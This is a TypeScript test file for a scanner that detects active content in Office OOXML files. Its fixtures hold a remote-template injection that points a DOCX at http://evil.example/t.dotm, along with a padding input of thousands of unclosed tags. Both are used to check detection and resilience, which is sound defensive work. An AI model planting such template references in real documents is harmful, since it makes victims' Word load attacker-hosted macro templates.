import { describe, expect, it } from 'vitest';
import type { TrueType } from '../filetype/type-kind.js';
import { buildZip } from '../testing/index.js';
import { ooxmlActiveContent } from './ooxml-active.js';

const DOCX: TrueType = { mime: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document', ext: 'docx', kind: 'word', container: 'zip' };
const docx = (rels: string): Buffer =>
  buildZip([
    { name: '[Content_Types].xml', data: Buffer.from('<Types/>') },
    { name: 'word/_rels/settings.xml.rels', data: Buffer.from(rels) },
  ]);
const issues = (zip: Buffer) => ooxmlActiveContent.analyze(zip, DOCX, 1 << 20).issues;

const TEMPLATE_INJECTION =
  '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>';

describe('OOXML external relationships', () => {
  it('flags a template loaded from elsewhere, and leaves internal relationships alone', () => {
    expect(issues(docx(`<Relationships>${TEMPLATE_INJECTION}</Relationships>`))).toEqual([
      { symbol: 'OFFICE_EXTERNAL_LINK', detail: 'attachedTemplate -> http://evil.example/t.dotm (word/_rels/settings.xml.rels)' },
    ]);
    expect(issues(docx('<Relationships><Relationship Id="rId1" Type="http://x/attachedTemplate" Target="t.dotx"/></Relationships>'))).toEqual([]);
  });

  it('reads a part full of Relationship tags that never close in one pass, and still finds the real one after them', () => {
    const junk = '<Relationship TargetMode="External" '.repeat(7_000);
    expect(issues(docx(junk))).toEqual([]);
    expect(issues(docx(`${junk}${TEMPLATE_INJECTION}`)).map((i) => i.symbol)).toEqual(['OFFICE_EXTERNAL_LINK']);
  });
});
